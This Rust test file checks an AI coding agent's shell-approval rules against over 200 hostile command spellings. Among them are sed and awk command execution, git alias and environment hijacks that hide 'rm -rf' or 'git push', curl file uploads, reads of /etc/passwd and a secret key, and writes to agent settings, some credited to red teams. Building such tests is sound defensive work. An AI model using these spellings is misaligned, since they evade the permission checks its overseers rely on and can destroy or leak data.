//! The boundary against forms nobody listed, by class: option spellings the programs accept
//! (abbreviations, bundles, attached values, options missing from any list), programs a reject
//! rule cannot see (environment, git configuration and aliases, inline interpreters, wrappers),
//! and protected places reached by directory targets, removed parents, tilde forms, unknown
//! writers and globs. Each class holds many inputs; several are run against the real programs
//! to show what they would do. Beside them, the benign commands people rely on still pass.

use std::path::PathBuf;
use std::process::Command;
use std::sync::Arc;

use approval_host::answer::Effect;
use approval_host::rules::pattern::Call;
use approval_host::rules::protect::{Area, Protected};
use approval_host::rules::{self, RuleBook};
use serde_json::json;

use super::support::Host;

/// Read-only rules people write for programs whose options can write or run programs.
const READ_RULES: &[&str] = &[
    "Bash(git grep:*)",
    "Bash(git fetch:*)",
    "Bash(git branch:*)",
    "Bash(git tag:*)",
    "Bash(git log:*)",
    "Bash(git diff:*)",
    "Bash(git status:*)",
    "Bash(sort:*)",
    "Bash(sed:*)",
    "Bash(sed -n:*)",
    "Bash(tar:*)",
    "Bash(tar -t:*)",
    "Bash(uniq:*)",
    "Bash(wget:*)",
    "Bash(curl:*)",
    "Bash(awk:*)",
    "Bash(mawk:*)",
    "Bash(grep:*)",
    "Bash(find:*)",
    "Bash(rg:*)",
    "Bash(echo:*)",
    "Bash(git shortlog:*)",
];

fn book(host: &Host, rules: &[(&str, Effect)]) -> Arc<RuleBook> {
    let statics = rules
        .iter()
        .enumerate()
        .map(|(i, (text, effect))| {
            RuleBook::deployment_rule(format!("d-{i}"), text, *effect, "forms.toml", None).unwrap()
        })
        .collect();
    RuleBook::open(
        host.service.store(),
        "forms",
        statics,
        vec![],
        rules::system_clock(),
    )
    .unwrap()
}

fn read_book(host: &Host) -> Arc<RuleBook> {
    let rules: Vec<(&str, Effect)> = READ_RULES.iter().map(|r| (*r, Effect::Allow)).collect();
    book(host, &rules)
}

/// `Bash` allowed whole, `rm` and `git push` rejected.
fn reject_book(host: &Host) -> Arc<RuleBook> {
    book(
        host,
        &[
            ("Bash", Effect::Allow),
            ("Bash(rm:*)", Effect::Reject),
            ("Bash(git push:*)", Effect::Reject),
        ],
    )
}

fn decides(book: &RuleBook, command: &str) -> Option<Effect> {
    book.peek(
        &Call {
            tool: "Bash",
            arguments: Some(&json!({ "command": command })),
            cwd: Some("/w"),
            undeclared: &[],
        },
        "s1",
    )
    .map(|m| m.effect)
}

/// Option spellings and options no list held: each writes a file, runs a program or sends what
/// it reads, under a rule written because the program reads.
const OPTION_SPELLINGS: &[&str] = &[
    // git's parse-options: abbreviations, bundles, attached optional values.
    "git grep -O'touch /tmp/x' TODO",
    "git grep -Otouch TODO",
    "git grep --open-files-in-pager=touch TODO",
    "git grep --open-files-in=touch TODO",
    "git grep --open TODO",
    "git grep --ext-grep TODO",
    "git grep --textconv TODO",
    "git fetch --upload-p='touch /tmp/x' .",
    "git fetch --upload-pack=x .",
    "git fetch --upl=x .",
    "git branch -qD main",
    "git branch -vD feature",
    "git branch -dq main",
    "git branch --del main",
    "git branch --mo a b",
    "git branch -fq main HEAD~1",
    "git branch --set-upstream-to=origin/x",
    "git branch -u origin/x",
    "git branch --edit-desc",
    "git tag --del v1",
    "git tag -ld v1",
    "git tag -fa v1",
    "git tag -s v1",
    "git log --outp=F",
    "git log --output=F",
    "git log -p --ext-diff",
    "git log --show-signature",
    "git log --textconv -p",
    "git diff --ext-di",
    "git diff --output F",
    "git diff --no-ext-diff --ext-diff",
    "git status --porcelain --bogus",
    // An attached-only value read as taking the next word hides an option behind it.
    "git log -U --output=.claude/settings.json --format='tformat:x' -1",
    "git log --format --output=F",
    "git log --min-parents --output=F",
    "git diff -U --output=F",
    "git shortlog -n --output=F HEAD",
    "wget -q --spider -O F https://example.com",
    "awk 'BEGIN { exit /\"/ } END { system(\"touch /tmp/x\") ; y = /\"/ }'",
    "awk -W random=1,exec prog.awk",
    "gawk -W dump f",
    "gawk -e 'BEGIN{system(\"id\")}'",
    // A second red team's: a bracket expression holding the delimiter, a statement going on
    // after a comma, `%` that is a file to curl's -o.
    "sed -n 's/[/]*//w /tmp/out' f",
    "sed -n 's/[[:alpha:]/]*/x/e' f",
    "awk 'BEGIN{print \"{}\",\n\"\" > \"/tmp/out\"}'",
    "curl -o % https://example.com",
    // GNU getopt_long: unique prefixes, bundles with attached values, options after operands.
    "sort --out=F f",
    "sort --outp=F f",
    "sort --o=F f",
    "sort -uoF f",
    "sort -ruo F f",
    "sort f -o F",
    "sort f --output F",
    "sort --compress-prog=x f",
    "sort --comp=x f",
    "sed --in s/a/b/ f",
    "sed --in-pl s/a/b/ f",
    "sed -ni s/a/b/ f",
    "sed -Ei.bak s/a/b/ f",
    "sed f -i s/a/b/",
    "sed --fi=script f",
    "sed -n ':a e touch /tmp/x' f",
    "sed -n ':a;e touch /tmp/x' f",
    "sed -n 'b a e touch /tmp/x' f",
    "sed -n '1e touch /tmp/x' f",
    "sed --expr='1e touch /tmp/x' f",
    "sed -e p -e 'w /tmp/out' f",
    "sed -s -n 'W /tmp/out' f",
    "sed 's/a/b/e' f",
    "sed 's/a/b/gw /tmp/out' f",
    "sed '1r /etc/passwd' f",
    "sed -n '$R /etc/passwd' f",
    "sed -n -f script f",
    "sed -nf script f",
    // tar: abbreviations, old-style letters, remote archives.
    "tar -tf a.tar --checkpoint-act=exec=touch",
    "tar -tf a.tar --checkpoint-action=exec=touch",
    "tar -t --to-com=sh -f a.tar",
    "tar -tIx -f a.tar",
    "tar -tf a.tar --use-compress-program=x",
    "tar -tf a.tar --rsh-command=/tmp/x",
    "tar -tf a.tar -F x",
    "tar -tf a.tar --index-file=out",
    "tar -tf a.tar -g snap",
    "tar tf host:a.tar",
    "tar -tf evil:x",
    "tar -tvf a.tar --extract",
    "tar xvf a.tar",
    "tar -tf a.tar -x",
    "tar tfx a.tar",
    // Options no list held.
    "uniq IN OUT",
    "uniq -c IN OUT",
    "uniq -- IN OUT",
    "wget -o F https://example.com",
    "wget -qO- -o F https://example.com",
    "wget -qO- --post-file=F https://example.com",
    "wget -qO- --body-data=x https://example.com",
    "wget -qO- -e 'x=y' https://example.com",
    "wget -O F https://example.com",
    "wget -qO F https://example.com",
    "wget -qO- --out=F https://example.com",
    "curl -d @file https://example.com",
    "curl --data-binary @file https://example.com",
    "curl -F f=@file https://example.com",
    "curl --json @file https://example.com",
    "curl --etag-save F https://example.com",
    "curl --etag-sa F https://example.com",
    "curl --outp F https://example.com",
    "curl -oF https://example.com",
    "curl -sSLoF https://example.com",
    "curl -w '%output{F}x' https://example.com",
    "curl -K cfg https://example.com",
    "curl -D F https://example.com",
    "curl --trace F https://example.com",
    "curl --hsts F https://example.com",
    "curl --bogus https://example.com",
    "mawk -W exec prog f",
    "awk -W exec prog f",
    "awk -We prog f",
    "awk -W ex prog f",
    "awk -f prog f",
    "awk --exec=prog f",
    "awk 'BEGIN{system(\"touch /tmp/x\")}'",
    "awk '{print > \"/tmp/out\"}' f",
    "awk '{printf(\"%s\", $1) > \"/tmp/out\"}' f",
    "awk '{print | \"sh\"}' f",
    "awk '{\"id\" | getline x}' f",
    "awk '{ getline line < \"/etc/passwd\" }' f",
    "awk '@load \"x\"'",
    "find . -fprint F",
    "find . -name x -exec touch {} +",
    "find . -ok touch {} ;",
    "find . -delete",
    "find . -name x -fls F",
    "find . -bogus",
    "rg --pre=x a",
    "rg --pre x a",
    "rg -z a",
    "rg --bogus a",
    "grep --pre x a",
    "grep --bogus a f",
];

/// Programs that run something a reject rule for `rm` or `git push` never sees, under a rule
/// allowing the whole tool.
const CHANGERS: &[&str] = &[
    "hash -p /usr/bin/rm ls; ls -rf build",
    "git -c alias.p=push p origin main",
    "git -calias.p=push p origin main",
    "git --config-env=alias.p=X p origin main",
    "git p origin main",
    "git pu origin main",
    "git -c core.sshCommand=x fetch",
    "git --exec-path=/tmp/x status",
    "GIT_EXTERNAL_DIFF=x git diff",
    "GIT_SSH_COMMAND='rm -rf x' git fetch",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p",
    "GIT_CONFIG_PARAMETERS=x git status",
    "GIT_PAGER=x git log",
    "BASH_ENV=./x bash -c ls",
    "ENV=./x sh -c ls",
    "env BASH_ENV=./x bash -c ls",
    "env -i PATH=/tmp/evil ls",
    "LD_PRELOAD=./x.so ls",
    "LD_LIBRARY_PATH=. ls",
    "PATH=/tmp/evil ls",
    "PATH=/tmp/evil; ls",
    "HOME=/tmp/evil git status",
    "NODE_OPTIONS='--require ./x.js' node app.js",
    "PYTHONSTARTUP=x python3",
    "PYTHONPATH=. python3 -m x",
    "PERL5OPT=-Mx perl x.pl",
    "RUSTC_WRAPPER=./x cargo build",
    "TAR_OPTIONS=--to-command=x tar -tf a.tar",
    "MAKEFLAGS=--eval=x make",
    "python3 -c 'import os; os.system(\"rm -rf x\")'",
    "python3 -Ic 'x'",
    "python3.12 -c x",
    "python3 -W ignore -c x",
    "python3 - < x.py",
    "echo x | python3",
    "perl -e 'system q(rm x)'",
    "perl -pi -e 's/a/b/' f",
    "perl -lne print f",
    "node -e 'x'",
    "node --eval=x",
    "ruby -e x",
    "php -r x",
    "awk 'BEGIN{system(\"rm -rf x\")}'",
    "sed -n '1e rm -rf x' f",
    "git rebase --exec 'rm x' main",
    "git rebase --exe 'rm x' main",
    "git rebase -x 'git push' main",
    "git rebase -i main",
    "git bisect run rm x",
    "git submodule foreach rm x",
    "git difftool -x rm",
    "make --eval='x:;rm -rf y' x",
    "make -E 'x:;rm y' x",
    "make -f - x",
    "prlimit --nofile=10 rm -rf x",
    "setarch x86_64 rm x",
    "linux64 rm x",
    "setpriv --reuid=0 rm x",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "catchsegv rm x",
    "xvfb-run rm x",
    "numactl -C 0 rm x",
    "npx -c 'rm x'",
    "npx --yes rm x",
    "uv run --with x rm x",
    "sort --compress-program=rm f",
    "rg --pre rm x",
    "tar -tf a.tar --to-command=rm",
    "find . -exec rm {} +",
    "xargs -a list rm",
    // The first unsafe option, or an unknown one, hides what runs behind it.
    "sed -i '1s/.*/git push origin HEAD/e' f",
    "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='git push origin HEAD' f",
    "tar -xf a.tar -C /tmp/o --to-command='rm x'",
    "git ls-remote --upload-pack='git push origin HEAD;git-upload-pack' .",
    "git clone -u 'rm -rf src;git-upload-pack' file:///tmp/r c",
    "git fetch --update-head-ok --upload-pack='rm x' .",
    "git grep --no-textconv -O'rm -rf src;:' x",
    "rg --no-config --pre=rm '' src",
    // Programs that run a command they are given, and plumbing that pushes.
    "rbash -c 'git push origin HEAD'",
    "ssh-agent rm -rf src",
    "tmux new -d 'rm x'",
    "vim -es -c '!git push' -c 'qa!'",
    "sqlite3 :memory: '.shell rm x'",
    "echo \"-n '1e git push origin HEAD' f\" | xargs sed",
    "echo x | xargs awk",
    "git send-pack git@host:o/r.git HEAD:main",
    "sed -n 's/[/]*/cd .;git push origin HEAD;:/e' f",
    "xargs --eof rm cat -rf build",
    "ed -s <<< '!git push origin HEAD'",
    "python3 /dev/stdin <<< 'import os'",
    "make -f /dev/stdin",
    "scp -o 'ProxyCommand=git push origin HEAD' h:x /tmp/q",
    "rsync -e 'rm -rf x' a b:c",
];

/// Commands people run every day: still covered by the read-only rules above.
const BENIGN: &[&str] = &[
    "awk 'NR>1' f.txt",
    "awk '$3 > 100 {print $1}' f.txt",
    "awk -F, '{ if ($2 >= 10) print $1 }' f.csv",
    "awk '/a|b/ {n++} END {print n}' f",
    "awk '{ print ($1 > $2) }' f",
    "awk '{ a = $1 / 2; print a }' f",
    "mawk -W version",
    "sort -t, -k2 -n f",
    "sort -rn f",
    "sort --reverse --numeric-sort f",
    "sort --rev f",
    "sort -k2,2 -t: f",
    "git log --oneline -5",
    "git log -n 5 --stat",
    "git log --format='%h %s' --since=2.weeks",
    "git log -p -- src/",
    "git log --graph --decorate --all",
    "git diff --stat HEAD~1",
    "git diff --cached --name-only",
    "git diff -U5 a b",
    "git status --short --branch",
    "git status -sb",
    "git branch -vv",
    "git branch --list 'feat/*'",
    "git branch -a --contains HEAD",
    "git tag -l 'v*'",
    "git tag --sort=-creatordate",
    "git grep -n foo",
    "git grep -e a --and -e b",
    "git grep -5 foo",
    "git fetch --prune origin",
    "git fetch -p",
    "sed -n '1,5p' f",
    "sed -E 's/a+/b/g' f",
    "sed ':a;N;$!ba;s/\\n/ /g' f",
    "sed -n '/x/{p;b}' f",
    "sed --quiet --expression='1p' f",
    "sed -ne 's/x/y/p' f",
    "sed --sandbox -n p f",
    "tar -tvf a.tar",
    "tar tzf a.tgz",
    "tar -t -f a.tar --wildcards '*.rs'",
    "tar --list --file=a.tar",
    "tar -tf a.tar --force-local",
    "uniq -c f",
    "uniq -d -i f",
    "curl -sSL -o /dev/null -w '%{http_code}' https://example.com",
    "curl -fsSL https://example.com",
    "curl -H 'Accept: application/json' -X GET https://example.com/api",
    "curl -I --max-time 5 https://example.com",
    "wget -qO- https://example.com",
    "wget -q -O - https://example.com",
    "wget --spider https://example.com",
    "grep -rn --include='*.rs' foo .",
    "grep -A3 -B2 x f",
    "grep -3 x f",
    "grep --colour=always -i x f",
    "grep --ign x f",
    "find . -type f -name '*.rs' -newermt 2024-01-01",
    "find src -maxdepth 2 -name '*.toml' -print0",
    "find . -not -path './target/*' -type f",
    "rg -n foo",
    "rg -t rust -g '!target' unsafe",
    "git shortlog -sn",
    "git log --stat-width=100 -3",
    "git log @{u}..HEAD",
    "git log -g HEAD@{1}",
    "git grep -x foo",
    "git diff -I'^#'",
    "awk '{print; fflush()}' f",
    "sed '1i header' f",
    "find . -type f ! -name '*.o'",
    "grep \"foo$\" f",
    "echo \"done!\"",
];

#[test]
fn no_option_spelling_the_programs_accept_rides_a_read_only_rule() {
    let host = Host::new();
    let allows = read_book(&host);
    let allowed: Vec<&&str> = OPTION_SPELLINGS
        .iter()
        .filter(|c| decides(&allows, c) == Some(Effect::Allow))
        .collect();
    assert!(OPTION_SPELLINGS.len() >= 120, "{}", OPTION_SPELLINGS.len());
    assert!(
        allowed.is_empty(),
        "{} of {} were allowed:\n{allowed:#?}",
        allowed.len(),
        OPTION_SPELLINGS.len()
    );
}

#[test]
fn what_changes_the_program_is_never_granted_beside_reject_rules() {
    let host = Host::new();
    let rejects = reject_book(&host);
    let allowed: Vec<&&str> = CHANGERS
        .iter()
        .filter(|c| decides(&rejects, c) == Some(Effect::Allow))
        .collect();
    assert!(CHANGERS.len() >= 70, "{}", CHANGERS.len());
    assert!(
        allowed.is_empty(),
        "{} of {} were allowed:\n{allowed:#?}",
        allowed.len(),
        CHANGERS.len()
    );
    // Nor does a rule naming the program's words cover them.
    let named = book(
        &host,
        &[
            ("Bash(git:*)", Effect::Allow),
            ("Bash(ls:*)", Effect::Allow),
            ("Bash(python3:*)", Effect::Allow),
            ("Bash(make:*)", Effect::Allow),
            ("Bash(node:*)", Effect::Allow),
        ],
    );
    for command in [
        "git -c alias.p=push p origin main",
        "git p origin main",
        "GIT_SSH_COMMAND=x git fetch",
        "PATH=/tmp/evil; ls",
        "python3 -c x",
        "make --eval=x",
        "node -e x",
    ] {
        assert_ne!(decides(&named, command), Some(Effect::Allow), "{command}");
    }
    // What stays plain is still allowed by the whole tool, environment people use included.
    for command in [
        "git status",
        "CI=true npm test",
        "RUST_LOG=debug cargo test",
        "python3 -m pytest -q",
        "python3 script.py",
        "make test",
        "npx prettier --check .",
        "git -C sub log --oneline",
    ] {
        assert_eq!(decides(&rejects, command), Some(Effect::Allow), "{command}");
    }
}

#[test]
fn the_commands_people_rely_on_stay_covered() {
    let host = Host::new();
    let allows = read_book(&host);
    let refused: Vec<&&str> = BENIGN
        .iter()
        .filter(|c| decides(&allows, c) != Some(Effect::Allow))
        .collect();
    assert!(refused.is_empty(), "not covered:\n{refused:#?}");
}

/// A project with a deployment, Claude Code's settings, and a state directory with a secret.
struct Project {
    _dir: tempfile::TempDir,
    root: PathBuf,
    state: PathBuf,
    protected: Protected,
}

impl Project {
    fn new() -> Project {
        let dir = tempfile::tempdir().unwrap();
        let root = approval_host::rules::paths::real_dir(dir.path()).join("proj");
        let state = approval_host::rules::paths::real_dir(dir.path()).join("state");
        for d in [".approval-host", ".claude", "build", "src", "vendor"] {
            std::fs::create_dir_all(root.join(d)).unwrap();
        }
        std::fs::create_dir_all(state.join("sessions")).unwrap();
        std::fs::write(root.join(".approval-host/claude-code.toml"), "").unwrap();
        std::fs::write(root.join(".claude/settings.json"), "{}").unwrap();
        std::fs::write(state.join("cache.key"), "k").unwrap();
        let protected = Protected::new([
            Area::tree("state-dir", "the state directory", &state),
            Area::file(
                "deployment",
                "the deployment file",
                &root.join(".approval-host/claude-code.toml"),
            ),
            Area::secret("cache-key", "the cache key", &state.join("cache.key")),
        ]);
        Project {
            _dir: dir,
            root,
            state,
            protected,
        }
    }

    fn hit(&self, command: &str) -> Option<String> {
        self.protected
            .check(
                "Bash",
                Some(&json!({ "command": command })),
                self.root.to_str(),
            )
            .map(|f| f.area.id.clone())
    }
}

#[test]
fn protected_places_fail_closed_for_every_form_a_command_shows() {
    let p = Project::new();
    let state = p.state.display().to_string();
    let rel_state = format!("../{}", p.state.file_name().unwrap().to_string_lossy());
    let commands: Vec<String> = [
        // A directory as the destination.
        "cp x .approval-host/",
        "cp claude-code.toml .approval-host",
        "cp -t .claude x",
        "cp --target-directory=.claude x",
        "mv x .claude/",
        "install -t .approval-host x",
        "ln -s /tmp/x .claude/",
        "tar -xf t.tar -C .claude",
        "tar -xf t.tar --directory=.claude",
        "tar -xzf t.tgz",
        "unzip evil.zip",
        "unzip -o evil.zip -d .claude",
        "cp -r evil/. .",
        "cp -rT evil .claude",
        "rsync -a evil/ .",
        "mv evil .claude",
        // Removing or renaming what holds a protected place.
        "rm -rf .claude",
        "rm -r .approval-host",
        "mv .claude .claude.off",
        "mv .approval-host x",
        "rm -rf .",
        "rm -rf ..",
        "rm -rf ~+",
        "find . -delete",
        "find . -name '*.json' -exec rm {} +",
        "chmod -R 000 .claude",
        "rmdir .claude",
        // Writers no list held, attached values and all.
        "sort -o .claude/settings.json f",
        "sort -o.claude/settings.json f",
        "curl -o .claude/settings.json https://example.com",
        "curl -so.claude/settings.json https://example.com",
        "wget -O .claude/settings.json https://example.com",
        "git diff --output=.claude/settings.json",
        "perl -pi -e s/a/b/ .claude/settings.json",
        "git checkout HEAD -- .claude/settings.json",
        "git restore --source=HEAD~3 .claude/settings.json",
        "python3 -c \"open('.claude/settings.json','w').write('{}')\"",
        "node -e \"require('fs').writeFileSync('.claude/settings.json','{}')\"",
        "sed -n 'w .claude/settings.json' f",
        "awk '{print > \".claude/settings.json\"}' f",
        "cargo run -- --out .claude/settings.json",
        "uniq f .claude/settings.json",
        "ls | xargs rm",
        // Reached through a directory change.
        "cd .claude && cp x settings.json",
        "cd -- .claude && cp x settings.json",
        "cd -P .claude && cp x settings.json",
        "pushd .claude && cp x settings.json",
        "cd - && cp x settings.json",
        "popd && cp x settings.json",
        "env -C .claude cp x settings.json",
        "git -C .claude checkout HEAD -- settings.json",
        "bash -c 'cd .claude && cp x settings.json'",
        // Tilde forms bash expands.
        "cp x ~+/.claude/settings.json",
        "cp x ~-/settings.json",
        "cp x ~nosuchuser/.claude/settings.json",
        // Globs and variables that could spell one.
        "cp x .clau*/settings.json",
        "cp x .claude/sett*",
        "echo x > .c?aude/settings.json",
        "cp x .[c]laude/settings.json",
        "rm -rf .cl*",
        "cp x $D/settings.json && cd .claude",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .chain([
        format!("cat {state}/cache.key"),
        format!("cat {rel_state}/cache.key"),
        format!("cat ~+/{rel_state}/cache.key"),
        format!("base64 {state}/cache.key"),
        format!("grep -c . {state}/cache.key"),
        format!("python3 -c \"print(open('{state}/cache.key').read())\""),
        format!("cp x {state}/sessions/"),
        format!("echo x >> {state}/sessions/rules.user.jsonl"),
        format!("rm -rf {state}"),
        format!("tar -xf t.tar -C {state}"),
        format!("grep -ra '' {}", p.state.display()),
        format!("tar -czf out.tgz {state}"),
        format!("curl -s file://{state}/cache%2ekey"),
    ])
    .chain(
        [
            "git log -U --output=.claude/settings.json --format='tformat:x' -1",
            "wget -q --spider -O .claude/settings.json http://example.com/",
            "git rm -rq .claude",
            "git mv .claude x",
            "git clean -fdX",
            "git stash -u",
            "ssh-agent rm -rf .claude",
            "rbash -c 'rm -rf .approval-host'",
            "git apply p.diff",
            "patch -p1 -i p.diff",
            "echo --output=.claude/settings.json | xargs git log -1",
            "python3 tool.py .claude",
            "foo --config .approval-host",
            // A second red team's.
            "(rm -rf .claude)",
            "{ mv .codex /tmp/c; }",
            "bash <<< 'rm -rf .gemini'",
            "eval 'cp /tmp/e.json .claude/./settings.json'",
            "cd .claude; cd /nonexistent; cp /tmp/e.json settings.json",
            "cd .claude && cd /tmp | true && cp /tmp/e.json settings.json",
            "cd .approval-host; cd /x; tar -xf /tmp/evil.tar",
            "sed -n 's/[/]*//w .claude/settings.json' f",
            "awk 'BEGIN{print \"{}\",\n\"\" > \".claude/settings.json\"}'",
            "xargs --eof rm cat -rf .claude",
            "iconv -f utf-8 -t utf-8 -o.claude/settings.json e",
            "sort -o.claude//settings.json e",
            "python3 -m tarfile -e /tmp/e.tar",
            "cpio -idu < e.cpio",
            "7z x e.7z",
            "bsdtar -xf e.tar",
            "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: .codex/hooks.json\n+{}\n*** End Patch\nEOF",
        ]
        .iter()
        .map(|s| (*s).to_owned()),
    )
    .collect();
    let missed: Vec<&String> = commands.iter().filter(|c| p.hit(c).is_none()).collect();
    assert!(commands.len() >= 70, "{}", commands.len());
    assert!(
        missed.is_empty(),
        "{} of {} not refused:\n{missed:#?}",
        missed.len(),
        commands.len()
    );
}

#[test]
fn ordinary_work_beside_protected_places_is_left_alone() {
    let p = Project::new();
    for command in [
        "cp x .",
        "cp x build/",
        "rm build/*.o",
        "rm -rf build",
        "rm -rf target node_modules",
        "mkdir -p build && cp -r src build/",
        "cp -r src .",
        "mv a.txt b.txt",
        "tar -czf out.tgz src",
        "tar -xzf deps.tgz -C vendor",
        "tar -tf a.tar",
        "unzip -l a.zip",
        "sed -i s/a/b/ src/main.rs",
        "cargo test 2>&1 | tee out.log",
        "cat .approval-host/claude-code.toml",
        "cat .claude/settings.json",
        "git add src/main.rs && git commit -m 'fix'",
        "git status",
        "cd src && ls && cp a b",
        "find build -name '*.o' -delete",
        "echo $HOME > x",
        "npm install",
        "python3 -c 'print(1)'",
        "ls ~",
        "pytest .",
        "python3 -m black src .",
        "cp build/app ..",
        "git stash",
        "git checkout main && git pull",
        "find . -name '*.rs' -print0 | xargs -0r wc -l",
        "[ -f Cargo.toml ] && cargo build",
        "grep -rn TODO src",
        "ls ~/.config",
        "ls *",
        "du -sh *",
        "grep -n TODO *",
        "cat *.json",
        "git commit -m \"$(cat <<'EOF'\nfix the parser\nEOF\n)\"",
        "export PATH=$PATH:/opt/bin",
        "mkdir -p $D",
        "git add .github .vscode",
        "prettier --check src",
    ] {
        assert_eq!(p.hit(command), None, "{command}");
    }
}

/// The real programs, run on harmless stand-ins: each hostile spelling above does what the
/// class says (writes, deletes, runs), so refusing it is not a guess.
#[test]
fn the_real_programs_do_what_the_hostile_spellings_say() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let sh = |script: &str| {
        Command::new("/bin/bash")
            .arg("-c")
            .arg(script)
            .current_dir(d)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", d)
            .output()
            .unwrap()
    };
    let exists = |name: &str| d.join(name).exists();
    let have = |program: &str| {
        Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("command -v {program}"))
            .output()
            .is_ok_and(|o| o.status.success())
    };
    std::fs::write(d.join("in"), "b\na\na\n").unwrap();
    let host = Host::new();
    let allows = read_book(&host);
    let mut shown = 0;
    let mut check = |command: &str, effect: &dyn Fn() -> bool| {
        let _ = sh(command);
        assert!(
            effect(),
            "the real program did not do what {command:?} says"
        );
        assert_ne!(decides(&allows, command), Some(Effect::Allow), "{command}");
        shown += 1;
    };
    if have("sort") {
        check("sort --out=F1 in", &|| exists("F1"));
        check("sort -uoF2 in", &|| exists("F2"));
        check("sort in -o F3", &|| exists("F3"));
    }
    if have("uniq") {
        check("uniq in OUT", &|| exists("OUT"));
    }
    if have("sed") {
        check("sed -n ':a e touch M1' in", &|| exists("M1"));
        check("sed -n '1w W1' in", &|| exists("W1"));
        std::fs::write(d.join("g"), "a\n").unwrap();
        check("sed --in s/a/z/ g", &|| {
            std::fs::read_to_string(d.join("g")).unwrap() == "z\n"
        });
    }
    if have("tar") {
        let _ = sh("tar -cf a.tar in");
        check(
            "tar -tf a.tar --checkpoint=1 --checkpoint-act=exec='touch M2'",
            &|| exists("M2"),
        );
    }
    if have("git") {
        let _ = sh(
            "git init -q r && cd r && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && git branch gone && git tag v1 && echo TODO > t && git add t",
        );
        check("cd r && git branch -qD gone", &|| {
            !String::from_utf8_lossy(&sh("cd r && git branch").stdout).contains("gone")
        });
        check("cd r && git tag --del v1", &|| {
            sh("cd r && git tag").stdout.is_empty()
        });
        check("cd r && git grep -O'touch ../M3' TODO", &|| exists("M3"));
        check("cd r && git -c alias.p='!touch ../M4' p", &|| exists("M4"));
    }
    if have("mawk") {
        check("mawk 'BEGIN{system(\"touch M5\")}'", &|| exists("M5"));
        check("mawk '{print > \"M6\"}' in", &|| exists("M6"));
    }
    assert!(
        shown >= 8 || std::env::var_os("CI").is_none(),
        "only {shown} shown"
    );
}
